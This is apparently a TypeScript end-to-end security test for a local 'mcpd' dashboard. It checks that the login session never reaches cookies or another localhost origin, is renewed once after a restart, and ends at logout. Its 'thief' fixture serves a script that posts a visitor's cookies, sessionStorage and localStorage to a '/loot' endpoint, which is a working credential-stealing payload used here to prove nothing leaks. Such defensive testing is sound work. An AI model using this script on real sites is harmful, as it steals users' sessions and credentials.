import { execFile } from 'node:child_process';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { promisify } from 'node:util';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { io as ioClient } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/browser.js';
import { TestWorld } from '../support/core-process.js';
import { dashboardToken } from '../support/dashboard-page.js';
import { freePort } from '../support/free-port.js';
import { MCPD } from '../support/paths.js';
import { echoServer, profile } from '../support/profiles.js';
import { waitFor } from '../support/procs.js';
import { must } from '../../internal/shared/must.js';

const run = promisify(execFile);

interface Seen {
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * Another user's web server on 127.0.0.1 (the red team's :7399): it records every request, and its page reports
 * whatever the browser lets it read (cookies and storage of its own origin) back to it.
 */
function thief(): Promise<{ server: Server; port: number; seen: Seen[] }> {
  const seen: Seen[] = [];
  const page =
    '<!doctype html><script>fetch("/loot",{method:"POST",body:JSON.stringify({cookie:document.cookie,' +
    'session:JSON.stringify(sessionStorage),local:JSON.stringify(localStorage)})})</script>';
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      res.writeHead(200, { 'content-type': 'text/html' }).end(page);
    });
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve({ server, port: (server.address() as { port: number }).port, seen })),
  );
}

/** Whether a socket to /app opens with what a request carried (its cookie and authorization headers, a session query). */
function socketOpens(base: string, headers: Record<string, string>, session?: string): Promise<boolean> {
  const s = ioClient(`${base}/app`, {
    transports: ['websocket'],
    reconnection: false,
    forceNew: true,
    extraHeaders: headers,
    ...(session !== undefined ? { query: { session } } : {}),
  });
  return new Promise<boolean>((resolve) => {
    s.once('connect', () => resolve(true));
    s.once('connect_error', () => resolve(false));
  }).finally(() => s.close());
}

describe("the browser's dashboard credential stays with the dashboard", () => {
  let world: TestWorld;
  let port: number;
  let browser: Browser;
  let ctx: BrowserContext;
  let page: Page;
  const base = () => `http://127.0.0.1:${port}`;
  const token = () => dashboardToken(world);
  /** The page's login value; undefined when it holds none. */
  const pageSession = async () => ((await page.evaluate(`sessionStorage.getItem('mcpd-session')`)) as string | null) ?? undefined;
  const online = () => page.getByRole('combobox', { name: 'caller' }).waitFor();

  beforeAll(async () => {
    port = await freePort();
    world = new TestWorld({
      'profiles/default.yaml': profile(echoServer('echo')),
      'callers.yaml': 'callers: { vscode: default }\n',
      'runtime.yaml': `metricsAddress: 127.0.0.1:${port}\n`,
    });
    await world.startCore();
    browser = await launchChromium(world.env());
    ctx = await browser.newContext();
    page = await ctx.newPage();
    const { stdout } = await run(process.execPath, [MCPD, 'open', '--caller', 'vscode', '--print-url', '--socket', world.socket], {
      env: world.env(),
    });
    await page.goto(stdout.trim());
    await online();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await world?.cleanup();
  });

  it('the browser holds a per-login value, never the token, and no cookie at all', async () => {
    expect(new URL(page.url()).search).toBe(''); // the login code left the address bar
    const session = await pageSession();
    expect(session).toMatch(/^[\w-]{43}$/);
    expect(session).not.toBe(token());
    expect(await ctx.cookies()).toEqual([]);
  });

  it('a listener on another 127.0.0.1 port that the logged-in browser visits gets nothing usable', async () => {
    const t = await thief();
    try {
      const session = must(await pageSession(), 'the page session');
      // The victim's browser visits the thief (as a link would take it), by address and by name.
      const other = await ctx.newPage();
      for (const host of ['127.0.0.1', 'localhost']) {
        await other.goto(`http://${host}:${t.port}/`);
        await waitFor('the thief page to report', () => t.seen.some((s) => s.url === '/loot' && s.headers.host === `${host}:${t.port}`));
      }
      await other.close();
      const everything = JSON.stringify(t.seen);
      expect(everything).not.toContain(session);
      expect(everything).not.toContain(token());
      for (const s of t.seen.filter((x) => x.url === '/loot')) {
        expect(JSON.parse(s.body)).toEqual({ cookie: '', session: '{}', local: '{}' });
      }
      // Whatever headers reached it do not open the dashboard's socket nor renew anything.
      for (const s of t.seen) {
        const carried: Record<string, string> = {};
        for (const h of ['cookie', 'authorization'] as const) if (s.headers[h]) carried[h] = String(s.headers[h]);
        expect(await socketOpens(base(), carried)).toBe(false);
        expect((await fetch(`${base()}/app/renew`, { method: 'POST', headers: { ...carried, origin: base() } })).status).toBe(401);
      }
    } finally {
      t.server.close();
    }
  }, 120_000);

  it('renewal after a graceful restart happens once, for that login only; logout ends the login', async () => {
    const session = must(await pageSession(), 'the page session');
    expect(await socketOpens(base(), {}, session)).toBe(true);
    const core = must(world.cores[0], 'the core');
    const exited = new Promise((r) => core.once('exit', r));
    core.kill('SIGTERM');
    await exited;
    await world.startCore();
    // The page renews by itself and holds a new value; the old one cannot be renewed again, nor does it open a socket.
    await page.locator('[data-conn]').waitFor({ state: 'detached', timeout: 60_000 });
    const renewed = must(await pageSession(), 'the renewed session');
    expect(renewed).not.toBe(session);
    const again = await fetch(`${base()}/app/renew`, { method: 'POST', headers: { origin: base(), 'x-mcpd-session': session } });
    expect(again.status).toBe(401);
    expect(await socketOpens(base(), {}, session)).toBe(false);
    expect(await socketOpens(base(), {}, renewed)).toBe(true);

    // Logout: the page says so, and the value it held opens nothing and renews nothing.
    await page.getByRole('button', { name: 'Log out' }).click();
    await page.locator('[data-conn="logged-out"]').waitFor();
    expect(await pageSession()).toBeUndefined();
    expect(await socketOpens(base(), {}, renewed)).toBe(false);
    const after = await fetch(`${base()}/app/renew`, { method: 'POST', headers: { origin: base(), 'x-mcpd-session': renewed } });
    expect(after.status).toBe(401);
  }, 180_000);
});
